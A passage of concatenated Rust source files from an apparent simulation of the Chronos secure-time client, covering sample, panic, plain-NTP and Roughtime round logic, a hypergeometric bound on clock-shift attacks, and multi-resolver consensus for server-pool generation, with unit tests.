//! // Fifteen servers agreeing on a +2 ms offset: the round accepts and
//! // anchors the drift envelope at `now`.
//! let offsets_ns = vec![2_000_000i64; 15];
//! let now = SimTime::from_secs(100);
//! let outcome = conclude_sample_round(
//!     &config,
//!     &mut CoreState {
//!         phase: &mut phase,
//!         retries: &mut retries,
//!         last_update: &mut last_update,
//!         stats: &mut stats,
//!     },
//!     &mut scratch,
//!     &offsets_ns,
//!     now,
//! );
//! assert!(matches!(outcome, RoundOutcome::Accept { correction_ns: 2_000_000, .. }));
//! assert_eq!(last_update, Some(now));
//! assert_eq!(stats.accepts, 1);
//! ```

use crate::config::ChronosConfig;
use crate::select::{chronos_select_with, panic_select_with, ChronosDecision, SelectScratch};
use netsim::time::SimTime;
use ntplab::combine::{ntpd_pipeline, PipelineOutcome};
use ntplab::select::PeerSample;
use serde::{Deserialize, Serialize};
use std::net::Ipv4Addr;

/// Lifecycle phase of a Chronos client.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Phase {
    /// Gathering the server pool via DNS (paper: 24 hourly queries).
    PoolGeneration,
    /// Normal operation: sample, select, update.
    Syncing,
    /// Querying the entire pool after K rejected samples.
    Panic,
}

/// Counters describing client activity.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ChronosStats {
    /// Pool-generation DNS queries sent.
    pub pool_queries: u64,
    /// Pool rounds that ended in timeout/SERVFAIL.
    pub pool_failures: u64,
    /// Sample rounds started.
    pub polls: u64,
    /// Accepted updates.
    pub accepts: u64,
    /// Rejected sample rounds (disagreement/envelope/too-few).
    pub rejects: u64,
    /// Panic-mode episodes.
    pub panics: u64,
}

impl ChronosStats {
    /// Element-wise sum, for fleet-level aggregation.
    pub fn accumulate(&mut self, other: &ChronosStats) {
        self.pool_queries += other.pool_queries;
        self.pool_failures += other.pool_failures;
        self.polls += other.polls;
        self.accepts += other.accepts;
        self.rejects += other.rejects;
        self.panics += other.panics;
    }
}

/// The per-client decision state a stepping call borrows: one lane of a
/// struct-of-arrays fleet, or the owned fields of a packet-level client.
#[derive(Debug)]
pub struct CoreState<'a> {
    /// Lifecycle phase (mutated on panic entry/exit).
    pub phase: &'a mut Phase,
    /// Consecutive rejected rounds (K counter).
    pub retries: &'a mut u32,
    /// When the clock last accepted a correction (envelope anchor).
    pub last_update: &'a mut Option<SimTime>,
    /// Activity counters.
    pub stats: &'a mut ChronosStats,
}

/// What the caller must do after a concluded sample round.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum RoundOutcome {
    /// Apply `correction_ns` to the clock and poll again next interval.
    Accept {
        /// The accepted correction (survivors' mean offset, ns).
        correction_ns: i64,
        /// Number of surviving samples averaged.
        survivors: usize,
    },
    /// Resample immediately with fresh randomness.
    Resample,
    /// K rejections reached: query the whole pool (phase is already
    /// [`Phase::Panic`] and the episode is counted).
    EnterPanic,
}

/// The drift envelope `ERR + drift·Δt` at `now`, in nanoseconds.
///
/// A cold client (`last_update == None`) is unconstrained: the first
/// accepted correction may be arbitrarily large.
pub fn envelope_ns(config: &ChronosConfig, last_update: Option<SimTime>, now: SimTime) -> i64 {
    match last_update {
        None => i64::MAX, // cold start: first update is unconstrained
        Some(at) => {
            let dt = now.duration_since(at);
            config.err.as_nanos() as i64 + (dt.as_nanos() as f64 * config.drift_ppm / 1e6) as i64
        }
    }
}

/// Concludes one sample round over the raw offsets (ns, relative to the
/// local clock): runs selection, updates retries/stats/phase/envelope
/// anchor, and tells the caller what to do next.
///
/// On [`RoundOutcome::Accept`] the caller applies the correction to its
/// clock; on [`RoundOutcome::EnterPanic`] the phase has already moved to
/// [`Phase::Panic`] and the panic episode is counted — the caller queries
/// the whole pool and later calls [`conclude_panic_round`].
///
/// Lossy-round contract: callers that model packet loss (the fleet's
/// fault-injection lanes) hand in only the *surviving* subset of a
/// round's samples. A round starved below `2·trim + 1` survivors rejects
/// (`TooFewSamples` inside selection) like any other bad round — K such
/// rounds escalate into a genuine panic episode, so availability faults
/// exercise the exact panic machinery the paper's attack does.
pub fn conclude_sample_round(
    config: &ChronosConfig,
    state: &mut CoreState<'_>,
    scratch: &mut SelectScratch,
    offsets_ns: &[i64],
    now: SimTime,
) -> RoundOutcome {
    let envelope = envelope_ns(config, *state.last_update, now);
    let decision = chronos_select_with(
        scratch,
        offsets_ns,
        config.trim,
        config.omega.as_nanos() as i64,
        envelope,
    );
    match decision {
        ChronosDecision::Accept {
            correction_ns,
            survivors,
        } => {
            *state.last_update = Some(now);
            *state.retries = 0;
            state.stats.accepts += 1;
            RoundOutcome::Accept {
                correction_ns,
                survivors,
            }
        }
        ChronosDecision::Reject(_) => {
            state.stats.rejects += 1;
            *state.retries += 1;
            if *state.retries >= config.max_retries {
                *state.phase = Phase::Panic;
                state.stats.panics += 1;
                RoundOutcome::EnterPanic
            } else {
                RoundOutcome::Resample
            }
        }
    }
}

/// Concludes a panic round over the whole pool's offsets: returns the
/// correction to apply (if any samples arrived), re-anchors the envelope,
/// clears the retry counter and returns the phase to [`Phase::Syncing`].
pub fn conclude_panic_round(
    state: &mut CoreState<'_>,
    scratch: &mut SelectScratch,
    offsets_ns: &[i64],
    now: SimTime,
) -> Option<i64> {
    let correction = panic_select_with(scratch, offsets_ns);
    if correction.is_some() {
        *state.last_update = Some(now);
    }
    *state.retries = 0;
    *state.phase = Phase::Syncing;
    correction
}

/// What a concluded plain-NTP poll round decided.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum PlainRoundOutcome {
    /// The pipeline found a majority clique: apply `correction_ns`.
    Correction {
        /// The combined correction (root-distance-weighted survivor mean).
        correction_ns: i64,
        /// Samples surviving intersection + clustering.
        survivors: usize,
    },
    /// No majority clique of truechimers: leave the clock alone.
    NoMajority,
    /// No samples arrived this round.
    NoSamples,
}

/// Concludes one plain-NTP poll round over raw offsets (ns, relative to
/// the local clock), updating the shared [`ChronosStats`] counters —
/// the borrowed-state plain analogue of [`conclude_sample_round`].
///
/// Delegates to [`ntplab::combine::ntpd_pipeline`] — the same
/// intersection → cluster → combine implementation the packet-level
/// [`ntplab::plain::PlainNtpClient`] runs — over synthetic
/// [`PeerSample`]s whose correctness-interval radius is the caller's
/// `root_distance_ns` (a mean-field path budget standing in for the
/// per-exchange δ/2 + ε a packet client measures; all samples share it,
/// so the combine weights are uniform and the correction is the survivor
/// mean). `samples_buf` is a caller-owned scratch buffer so a warm fleet
/// lane builds the sample vector without reallocating.
///
/// Counter mapping onto the shared [`ChronosStats`]: a correction counts
/// as an *accept*, a no-majority round as a *reject* (the plain client's
/// `updates`/`no_majority` counters respectively); plain clients never
/// panic.
pub fn conclude_plain_round(
    stats: &mut ChronosStats,
    samples_buf: &mut Vec<PeerSample>,
    offsets_ns: &[i64],
    root_distance_ns: i64,
) -> PlainRoundOutcome {
    samples_buf.clear();
    samples_buf.extend(offsets_ns.iter().map(|&offset_ns| PeerSample {
        server: Ipv4Addr::UNSPECIFIED,
        offset_ns,
        // root_distance = delay/2 + dispersion.
        delay_ns: 2 * root_distance_ns,
        dispersion_ns: 0,
    }));
    match ntpd_pipeline(samples_buf) {
        PipelineOutcome::Correction(c) => {
            stats.accepts += 1;
            PlainRoundOutcome::Correction {
                correction_ns: c.offset_ns,
                survivors: c.survivors,
            }
        }
        PipelineOutcome::NoMajority => {
            stats.rejects += 1;
            PlainRoundOutcome::NoMajority
        }
        PipelineOutcome::NoSamples => PlainRoundOutcome::NoSamples,
    }
}

/// What a concluded Roughtime cross-reference round decided.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum RoughtimeOutcome {
    /// A strict majority of source midpoints agreed within the agreement
    /// radius: apply their mean.
    Correction {
        /// Mean offset of the agreeing cluster (ns).
        correction_ns: i64,
        /// Number of sources inside the agreeing cluster.
        agreeing: usize,
    },
    /// No strict majority of sources agreed — the signed midpoints are
    /// mutually inconsistent evidence of misbehaviour (the cross-check
    /// Roughtime exists for). The clock is left alone and the caller
    /// should count a detected inconsistency.
    Inconsistent,
    /// No source responded this round.
    NoSamples,
}

/// Concludes one Roughtime fetch round by cross-referencing the signed
/// midpoints of M independently-resolved sources — the borrowed-state
/// Roughtime analogue of [`conclude_plain_round`].
///
/// The decision is majority-of-midpoints: the largest set of sources
/// whose offsets span at most `agreement_ns` wins if it is a *strict*
/// majority (`2·cluster > M`), and the correction is the cluster mean.
/// Anything short of a strict majority is a detected inconsistency — the
/// clock is not steered by evidence the sources themselves dispute.
///
/// With a single source (M = 1) the lone midpoint is trivially a strict
/// majority, so the lane degenerates to an unchecked single-server fetch
/// — exactly the ETH2-Medalla failure mode the redundancy exists to
/// rule out.
///
/// `offsets_ns` is sorted in place (caller-owned scratch). Counter
/// mapping: a correction counts as an *accept*, an inconsistent round as
/// a *reject*; Roughtime clients never panic.
pub fn conclude_roughtime_round(
    stats: &mut ChronosStats,
    offsets_ns: &mut [i64],
    agreement_ns: i64,
) -> RoughtimeOutcome {
    if offsets_ns.is_empty() {
        return RoughtimeOutcome::NoSamples;
    }
    offsets_ns.sort_unstable();
    let n = offsets_ns.len();
    // Largest window [i, j) with spread ≤ agreement_ns, earliest window
    // on ties (deterministic, and ties cannot both be strict majorities).
    let (mut best_start, mut best_len) = (0usize, 1usize);
    let mut start = 0usize;
    for end in 0..n {
        while offsets_ns[end] - offsets_ns[start] > agreement_ns {
            start += 1;
        }
        let len = end - start + 1;
        if len > best_len {
            (best_start, best_len) = (start, len);
        }
    }
    if 2 * best_len > n {
        let cluster = &offsets_ns[best_start..best_start + best_len];
        let sum: i128 = cluster.iter().map(|&o| i128::from(o)).sum();
        stats.accepts += 1;
        RoughtimeOutcome::Correction {
            correction_ns: (sum / best_len as i128) as i64,
            agreeing: best_len,
        }
    } else {
        stats.rejects += 1;
        RoughtimeOutcome::Inconsistent
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use netsim::time::SimDuration;

    const MS: i64 = 1_000_000;

    fn state_tuple() -> (Phase, u32, Option<SimTime>, ChronosStats) {
        (Phase::Syncing, 0, None, ChronosStats::default())
    }

    #[test]
    fn cold_start_envelope_is_unbounded() {
        let cfg = ChronosConfig::default();
        assert_eq!(envelope_ns(&cfg, None, SimTime::from_secs(5)), i64::MAX);
        let anchored = envelope_ns(
            &cfg,
            Some(SimTime::ZERO),
            SimTime::ZERO + SimDuration::from_hours(1),
        );
        // ERR (100 ms) + 30 ppm over an hour (108 ms).
        assert_eq!(anchored, 100 * MS + 108 * MS);
    }

    #[test]
    fn accept_anchors_envelope_and_counts() {
        let cfg = ChronosConfig::default();
        let (mut phase, mut retries, mut last, mut stats) = state_tuple();
        let mut scratch = SelectScratch::new();
        let offsets = vec![2 * MS; 15];
        let now = SimTime::from_secs(100);
        let out = conclude_sample_round(
            &cfg,
            &mut CoreState {
                phase: &mut phase,
                retries: &mut retries,
                last_update: &mut last,
                stats: &mut stats,
            },
            &mut scratch,
            &offsets,
            now,
        );
        assert_eq!(
            out,
            RoundOutcome::Accept {
                correction_ns: 2 * MS,
                survivors: 5
            }
        );
        assert_eq!(last, Some(now));
        assert_eq!(stats.accepts, 1);
        assert_eq!(phase, Phase::Syncing);
    }

    #[test]
    fn k_rejections_enter_panic_and_panic_round_recovers() {
        let cfg = ChronosConfig {
            max_retries: 2,
            ..ChronosConfig::default()
        };
        let (mut phase, mut retries, _, mut stats) = state_tuple();
        let mut last = Some(SimTime::ZERO);
        let mut scratch = SelectScratch::new();
        // Agreeing but far outside the envelope: rejected every time.
        let offsets = vec![900 * MS; 15];
        let now = SimTime::from_secs(64);
        let mut st = CoreState {
            phase: &mut phase,
            retries: &mut retries,
            last_update: &mut last,
            stats: &mut stats,
        };
        assert_eq!(
            conclude_sample_round(&cfg, &mut st, &mut scratch, &offsets, now),
            RoundOutcome::Resample
        );
        assert_eq!(
            conclude_sample_round(&cfg, &mut st, &mut scratch, &offsets, now),
            RoundOutcome::EnterPanic
        );
        assert_eq!(*st.phase, Phase::Panic);
        assert_eq!(st.stats.panics, 1);
        assert_eq!(st.stats.rejects, 2);
        // Panic over a fully shifted pool drags the clock and resyncs.
        let pool = vec![500 * MS; 90];
        let correction = conclude_panic_round(&mut st, &mut scratch, &pool, now);
        assert_eq!(correction, Some(500 * MS));
        assert_eq!(*st.phase, Phase::Syncing);
        assert_eq!(*st.retries, 0);
        assert_eq!(*st.last_update, Some(now));
    }

    /// The lossy-round contract the fleet's fault lanes lean on: a round
    /// whose surviving sample subset is starved below `2·trim + 1` (here:
    /// emptied entirely) rejects, and K starved rounds enter panic — loss
    /// drives the same escalation path as a disagreeing pool.
    #[test]
    fn starved_rounds_reject_until_panic() {
        let cfg = ChronosConfig {
            max_retries: 2,
            ..ChronosConfig::default()
        };
        let (mut phase, mut retries, mut last, mut stats) = state_tuple();
        let mut scratch = SelectScratch::new();
        let now = SimTime::from_secs(64);
        let mut st = CoreState {
            phase: &mut phase,
            retries: &mut retries,
            last_update: &mut last,
            stats: &mut stats,
        };
        assert_eq!(
            conclude_sample_round(&cfg, &mut st, &mut scratch, &[], now),
            RoundOutcome::Resample,
            "an empty round is a reject, not a no-op"
        );
        assert_eq!(
            conclude_sample_round(&cfg, &mut st, &mut scratch, &[2 * MS], now),
            RoundOutcome::EnterPanic,
            "one survivor is still below 2·trim + 1"
        );
        assert_eq!(*st.phase, Phase::Panic);
        assert_eq!(st.stats.rejects, 2);
        assert_eq!(st.stats.panics, 1);
        assert_eq!(st.stats.accepts, 0);
    }

    #[test]
    fn empty_panic_round_still_resyncs_without_anchor() {
        let (_, _, mut last, mut stats) = state_tuple();
        let mut phase = Phase::Panic;
        let mut retries = 3;
        let mut scratch = SelectScratch::new();
        let mut st = CoreState {
            phase: &mut phase,
            retries: &mut retries,
            last_update: &mut last,
            stats: &mut stats,
        };
        assert_eq!(
            conclude_panic_round(&mut st, &mut scratch, &[], SimTime::from_secs(9)),
            None
        );
        assert_eq!(*st.phase, Phase::Syncing);
        assert_eq!(*st.retries, 0);
        assert_eq!(*st.last_update, None, "no samples, no envelope anchor");
    }

    #[test]
    fn plain_round_follows_an_agreeing_pool_and_counts_accepts() {
        let mut stats = ChronosStats::default();
        let mut buf = Vec::new();
        // Four servers agreeing on +500 ms (the unanimous-liar case the
        // packet-level PlainNtpClient test pins): combined correction is
        // the survivor mean, counted as an accept.
        let out = conclude_plain_round(&mut stats, &mut buf, &[500 * MS; 4], 3 * MS);
        assert_eq!(
            out,
            PlainRoundOutcome::Correction {
                correction_ns: 500 * MS,
                survivors: 4
            }
        );
        assert_eq!(stats.accepts, 1);
        assert_eq!(stats.rejects, 0);
    }

    #[test]
    fn plain_round_with_no_majority_counts_a_reject() {
        let mut stats = ChronosStats::default();
        let mut buf = Vec::new();
        // Four servers scattered far beyond the correctness radius: no
        // clique of 3 intervals shares a point.
        let offsets = [-300 * MS, -100 * MS, 100 * MS, 300 * MS];
        let out = conclude_plain_round(&mut stats, &mut buf, &offsets, MS);
        assert_eq!(out, PlainRoundOutcome::NoMajority);
        assert_eq!(stats.rejects, 1);
        assert_eq!(stats.accepts, 0);
    }

    #[test]
    fn plain_round_with_no_samples_is_a_no_op() {
        let mut stats = ChronosStats::default();
        let mut buf = Vec::new();
        assert_eq!(
            conclude_plain_round(&mut stats, &mut buf, &[], MS),
            PlainRoundOutcome::NoSamples
        );
        assert_eq!(stats, ChronosStats::default());
    }

    #[test]
    fn roughtime_majority_accepts_the_cluster_mean() {
        let mut stats = ChronosStats::default();
        // Two honest sources agree near zero; one captured source claims
        // +500 ms. 2-of-3 is a strict majority → mean of the agreeing pair.
        let mut offsets = [2 * MS, 500 * MS, -2 * MS];
        let out = conclude_roughtime_round(&mut stats, &mut offsets, 10 * MS);
        assert_eq!(
            out,
            RoughtimeOutcome::Correction {
                correction_ns: 0,
                agreeing: 2
            }
        );
        assert_eq!(stats.accepts, 1);
        assert_eq!(stats.rejects, 0);
    }

    #[test]
    fn roughtime_split_sources_are_a_detected_inconsistency() {
        let mut stats = ChronosStats::default();
        // A 1-vs-1 split is not a strict majority: the signed midpoints
        // contradict each other and the clock must not move.
        let mut offsets = [0, 500 * MS];
        assert_eq!(
            conclude_roughtime_round(&mut stats, &mut offsets, 10 * MS),
            RoughtimeOutcome::Inconsistent
        );
        assert_eq!(stats.rejects, 1);
        // 2-vs-2 likewise (largest window is half, not a majority).
        let mut offsets = [0, MS, 500 * MS, 501 * MS];
        assert_eq!(
            conclude_roughtime_round(&mut stats, &mut offsets, 10 * MS),
            RoughtimeOutcome::Inconsistent
        );
        assert_eq!(stats.rejects, 2);
    }

    #[test]
    fn roughtime_single_source_degenerates_to_unchecked_fetch() {
        let mut stats = ChronosStats::default();
        // M = 1 (Medalla): the lone midpoint is trivially a strict
        // majority — nothing cross-checks it.
        let mut offsets = [500 * MS];
        assert_eq!(
            conclude_roughtime_round(&mut stats, &mut offsets, 10 * MS),
            RoughtimeOutcome::Correction {
                correction_ns: 500 * MS,
                agreeing: 1
            }
        );
        assert_eq!(stats.accepts, 1);
    }

    #[test]
    fn roughtime_empty_round_is_a_no_op() {
        let mut stats = ChronosStats::default();
        assert_eq!(
            conclude_roughtime_round(&mut stats, &mut [], 10 * MS),
            RoughtimeOutcome::NoSamples
        );
        assert_eq!(stats, ChronosStats::default());
    }

    #[test]
    fn stats_accumulate() {
        let mut a = ChronosStats {
            polls: 1,
            accepts: 1,
            ..ChronosStats::default()
        };
        let b = ChronosStats {
            polls: 2,
            rejects: 3,
            panics: 1,
            pool_queries: 4,
            pool_failures: 1,
            accepts: 0,
        };
        a.accumulate(&b);
        assert_eq!(a.polls, 3);
        assert_eq!(a.rejects, 3);
        assert_eq!(a.accepts, 1);
        assert_eq!(a.pool_queries, 4);
        assert_eq!(a.pool_failures, 1);
        assert_eq!(a.panics, 1);
    }
}
