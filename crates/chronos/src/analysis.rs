//! The Chronos security bound, reproduced analytically (claim C6).
//!
//! Chronos' guarantee: an attacker controlling a fraction `f < 2/3` of the
//! pool must win the sampling lottery — draw at least `m − d` of its servers
//! into one m-sample so that *every* survivor of the trim is malicious — and
//! must do so over enough consecutive polls to push the clock past the
//! target shift without tripping the drift envelope. The probability per
//! poll is a hypergeometric tail; years of expected effort follow for small
//! `f`. At `f ≥ 2/3` the panic-mode trimmed mean is attacker-controlled
//! *deterministically*, which is why the paper's DNS attack aims exactly
//! there.

use netsim::rng::SimRng;
use netsim::time::SimDuration;
use serde::{Deserialize, Serialize};

/// Natural log of `n!` (exact summation; n stays small here).
pub fn ln_factorial(n: u64) -> f64 {
    (2..=n).map(|i| (i as f64).ln()).sum()
}

/// Natural log of the binomial coefficient `C(n, k)`.
///
/// Returns `f64::NEG_INFINITY` when `k > n`.
pub fn ln_choose(n: u64, k: u64) -> f64 {
    if k > n {
        return f64::NEG_INFINITY;
    }
    ln_factorial(n) - ln_factorial(k) - ln_factorial(n - k)
}

/// Hypergeometric pmf: probability of drawing exactly `c` marked items in
/// `m` draws without replacement from `n` items of which `k` are marked.
pub fn hypergeom_pmf(n: u64, k: u64, m: u64, c: u64) -> f64 {
    if c > m || c > k || m - c > n - k {
        return 0.0;
    }
    (ln_choose(k, c) + ln_choose(n - k, m - c) - ln_choose(n, m)).exp()
}

/// Hypergeometric upper tail: `P[C >= c_min]`.
pub fn hypergeom_tail_ge(n: u64, k: u64, m: u64, c_min: u64) -> f64 {
    (c_min..=m.min(k)).map(|c| hypergeom_pmf(n, k, m, c)).sum()
}

/// Probability that one Chronos sample is fully attacker-controlled: at
/// least `m − d` of the `m` sampled servers are malicious, so every sample
/// surviving the d-trim is attacker-supplied.
pub fn prob_sample_controlled(n: usize, malicious: usize, m: usize, d: usize) -> f64 {
    if n == 0 || m == 0 {
        return 0.0;
    }
    let m = m.min(n);
    let need = m.saturating_sub(d) as u64;
    hypergeom_tail_ge(n as u64, malicious as u64, m as u64, need)
}

/// `true` when panic mode is deterministically attacker-controlled: the
/// honest servers all fit inside the bottom-third trim, i.e.
/// `n − malicious ≤ ⌊n/3⌋` (equivalently `malicious ≥ ⌈2n/3⌉`).
pub fn panic_controlled(n: usize, malicious: usize) -> bool {
    n > 0 && n - malicious <= n / 3
}

/// Minimum malicious servers for deterministic panic control.
pub fn min_attacker_for_panic_control(n: usize) -> usize {
    n - n / 3
}

/// The analytic security bound for a shift attack.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct SecurityBound {
    /// Probability one poll's sample is fully attacker-controlled.
    pub p_per_poll: f64,
    /// Consecutive controlled polls needed to exceed the shift target.
    pub consecutive_needed: u32,
    /// Expected polls until the attack succeeds.
    pub expected_polls: f64,
    /// The same in years at the given poll interval.
    pub expected_years: f64,
    /// Whether panic mode alone already hands over the clock.
    pub panic_is_controlled: bool,
}

/// Seconds per (Julian) year.
pub const SECONDS_PER_YEAR: f64 = 365.25 * 86_400.0;

/// Computes the expected effort to shift a Chronos client by more than
/// `shift_target` when the attacker holds `malicious` of `n` pool servers.
///
/// Each fully-controlled poll moves the clock by at most the envelope
/// (≈ `err`), so exceeding the target takes
/// `r = floor(target/err) + 1` consecutive controlled polls; the expected
/// waiting time for `r` consecutive successes of probability `p` is
/// `(1 − p^r) / ((1 − p) p^r)` trials.
///
/// When `malicious ≥ ⌈2n/3⌉`, panic mode is deterministically controlled
/// and the expected effort collapses to (roughly) one poll.
pub fn shift_attack_bound(
    n: usize,
    malicious: usize,
    m: usize,
    d: usize,
    shift_target: SimDuration,
    err: SimDuration,
    poll_interval: SimDuration,
) -> SecurityBound {
    let panic = panic_controlled(n, malicious);
    let p = prob_sample_controlled(n, malicious, m, d);
    let r = if err.is_zero() {
        u32::MAX
    } else {
        (shift_target.as_nanos() / err.as_nanos()) as u32 + 1
    };
    let expected_polls = if panic {
        1.0
    } else if p <= 0.0 || err.is_zero() {
        f64::INFINITY
    } else if p >= 1.0 {
        f64::from(r)
    } else {
        let p_r = p.powf(f64::from(r));
        (1.0 - p_r) / ((1.0 - p) * p_r)
    };
    let expected_years = expected_polls * poll_interval.as_secs_f64() / SECONDS_PER_YEAR;
    SecurityBound {
        p_per_poll: p,
        consecutive_needed: r,
        expected_polls,
        expected_years,
        panic_is_controlled: panic,
    }
}

/// One Monte-Carlo draw of the sampling lottery: does a random `m`-of-`n`
/// sample (first `malicious` indices attacker-owned) survive trimming `d`
/// with an attacker majority? The per-trial unit parallel sweeps fan out
/// over.
pub fn sample_is_controlled(
    n: usize,
    malicious: usize,
    m: usize,
    d: usize,
    rng: &mut SimRng,
) -> bool {
    if n == 0 || m == 0 {
        return false;
    }
    let m = m.min(n);
    let need = m.saturating_sub(d);
    let drawn = rng.sample_indices(n, m);
    drawn.iter().filter(|&&i| i < malicious).count() >= need
}

/// Monte-Carlo estimate of `prob_sample_controlled` (cross-check for the
/// closed form and the engine behind the E5 bench).
pub fn monte_carlo_sample_controlled(
    n: usize,
    malicious: usize,
    m: usize,
    d: usize,
    trials: u32,
    rng: &mut SimRng,
) -> f64 {
    if trials == 0 {
        return 0.0;
    }
    let hits = (0..trials)
        .filter(|_| sample_is_controlled(n, malicious, m, d, rng))
        .count();
    hits as f64 / f64::from(trials)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn factorial_and_choose() {
        assert_eq!(ln_factorial(0), 0.0);
        assert_eq!(ln_factorial(1), 0.0);
        assert!((ln_factorial(5) - 120f64.ln()).abs() < 1e-12);
        assert!((ln_choose(5, 2) - 10f64.ln()).abs() < 1e-12);
        assert_eq!(ln_choose(3, 5), f64::NEG_INFINITY);
    }

    #[test]
    fn hypergeom_pmf_sums_to_one() {
        let (n, k, m) = (50u64, 20u64, 10u64);
        let total: f64 = (0..=m).map(|c| hypergeom_pmf(n, k, m, c)).sum();
        assert!((total - 1.0).abs() < 1e-9, "total {total}");
    }

    #[test]
    fn hypergeom_hand_case() {
        // Urn: 10 items, 4 marked, draw 3. P[exactly 2 marked] =
        // C(4,2)*C(6,1)/C(10,3) = 6*6/120 = 0.3.
        let p = hypergeom_pmf(10, 4, 3, 2);
        assert!((p - 0.3).abs() < 1e-12);
        let tail = hypergeom_tail_ge(10, 4, 3, 2);
        // + P[3 marked] = C(4,3)/C(10,3) = 4/120.
        assert!((tail - (0.3 + 4.0 / 120.0)).abs() < 1e-12);
    }

    #[test]
    fn sample_control_extremes() {
        assert_eq!(prob_sample_controlled(100, 0, 15, 5), 0.0);
        assert!((prob_sample_controlled(100, 100, 15, 5) - 1.0).abs() < 1e-9);
        assert_eq!(prob_sample_controlled(0, 0, 15, 5), 0.0);
    }

    #[test]
    fn sample_control_monotone_in_attacker_share() {
        let mut last = 0.0;
        for k in [10, 30, 50, 64, 80, 89] {
            let p = prob_sample_controlled(133, k, 15, 5);
            assert!(p >= last, "p({k}) = {p} not monotone");
            last = p;
        }
    }

    /// The paper's 2/3 threshold for panic mode, at the attack's exact
    /// numbers: 89 of 133 controls, 88 of 133 does not.
    #[test]
    fn panic_threshold_at_paper_numbers() {
        assert!(panic_controlled(133, 89));
        assert!(!panic_controlled(133, 88));
        assert_eq!(min_attacker_for_panic_control(133), 89);
        assert_eq!(min_attacker_for_panic_control(96), 64);
        assert!(panic_controlled(96, 64));
        assert!(!panic_controlled(96, 63));
    }

    #[test]
    fn bound_is_astronomical_for_small_fractions() {
        let b = shift_attack_bound(
            500,
            125, // 25 %
            15,
            5,
            SimDuration::from_millis(100),
            SimDuration::from_millis(100),
            SimDuration::from_hours(1),
        );
        assert!(!b.panic_is_controlled);
        assert_eq!(b.consecutive_needed, 2);
        assert!(
            b.expected_years > 20.0,
            "25% attacker needs {} years",
            b.expected_years
        );
    }

    #[test]
    fn bound_collapses_at_two_thirds() {
        let b = shift_attack_bound(
            133,
            89,
            15,
            5,
            SimDuration::from_millis(100),
            SimDuration::from_millis(100),
            SimDuration::from_hours(1),
        );
        assert!(b.panic_is_controlled);
        assert_eq!(b.expected_polls, 1.0);
        assert!(b.expected_years < 1e-3);
    }

    #[test]
    fn bound_years_decrease_with_attacker_share() {
        let years: Vec<f64> = [50, 100, 150, 200]
            .iter()
            .map(|&k| {
                shift_attack_bound(
                    500,
                    k,
                    15,
                    5,
                    SimDuration::from_millis(100),
                    SimDuration::from_millis(100),
                    SimDuration::from_hours(1),
                )
                .expected_years
            })
            .collect();
        for w in years.windows(2) {
            assert!(w[0] >= w[1], "years must fall as attacker grows: {years:?}");
        }
    }

    #[test]
    fn monte_carlo_agrees_with_closed_form() {
        let mut rng = SimRng::seed_from(42);
        let (n, k, m, d) = (133, 89, 15, 5);
        let exact = prob_sample_controlled(n, k, m, d);
        let mc = monte_carlo_sample_controlled(n, k, m, d, 20_000, &mut rng);
        assert!(
            (exact - mc).abs() < 0.02,
            "exact {exact} vs monte-carlo {mc}"
        );
    }

    #[test]
    fn zero_err_envelope_means_never() {
        let b = shift_attack_bound(
            100,
            10,
            15,
            5,
            SimDuration::from_millis(100),
            SimDuration::ZERO,
            SimDuration::from_hours(1),
        );
        assert!(b.expected_polls.is_infinite() || b.expected_years > 1e100);
    }
}
