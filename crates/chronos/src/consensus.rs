//! Consensus-based pool generation — the paper's recommended direction.
//!
//! The paper's conclusion points at "proposals for generating distributed
//! consensus in a secure way" (Jeitner et al., *Secure Consensus Generation
//! with Distributed DoH*, DSN-W 2020): instead of trusting one resolver,
//! query **k independent resolvers** and accept an address into the pool
//! only when enough of them agree. A single poisoned resolver then
//! contributes nothing unless the attacker compromises a quorum.
//!
//! This module implements the pool-side aggregation: per-round answers from
//! multiple resolvers are combined under a [`ConsensusRule`], feeding the
//! same [`crate::pool::PoolGenerator`] bookkeeping.

use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::net::Ipv4Addr;

/// How multi-resolver answers are combined.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum ConsensusRule {
    /// Accept an address vouched for by any resolver (no protection —
    /// the union is as weak as the weakest resolver).
    Union,
    /// Accept only addresses reported by **more than half** the resolvers.
    Majority,
    /// Accept only addresses reported by **every** resolver.
    Intersection,
    /// Accept addresses reported by at least `k` resolvers.
    Threshold(
        /// The quorum size.
        usize,
    ),
}

impl ConsensusRule {
    /// The quorum required under this rule for `resolvers` participants.
    pub fn quorum(&self, resolvers: usize) -> usize {
        match *self {
            ConsensusRule::Union => 1,
            ConsensusRule::Majority => resolvers / 2 + 1,
            ConsensusRule::Intersection => resolvers,
            ConsensusRule::Threshold(k) => k.clamp(1, resolvers.max(1)),
        }
    }
}

/// Outcome of combining one round's answers.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ConsensusRound {
    /// Addresses that met the quorum, in deterministic order.
    pub accepted: Vec<Ipv4Addr>,
    /// Addresses reported by at least one resolver but below quorum.
    pub rejected: Vec<Ipv4Addr>,
    /// Resolvers that answered this round.
    pub responders: usize,
}

/// Combines per-resolver answer sets under `rule`.
///
/// Duplicate addresses within one resolver's answer count once. The
/// answer order is normalised (sorted) so outcomes are deterministic
/// regardless of resolver arrival order.
pub fn combine_round(answers: &[Vec<Ipv4Addr>], rule: ConsensusRule) -> ConsensusRound {
    let responders = answers.iter().filter(|a| !a.is_empty()).count();
    let quorum = rule.quorum(answers.len());
    let mut votes: BTreeMap<Ipv4Addr, usize> = BTreeMap::new();
    for answer in answers {
        let mut seen: Vec<Ipv4Addr> = answer.clone();
        seen.sort_unstable();
        seen.dedup();
        for addr in seen {
            *votes.entry(addr).or_insert(0) += 1;
        }
    }
    let mut accepted = Vec::new();
    let mut rejected = Vec::new();
    for (addr, count) in votes {
        if count >= quorum {
            accepted.push(addr);
        } else {
            rejected.push(addr);
        }
    }
    ConsensusRound {
        accepted,
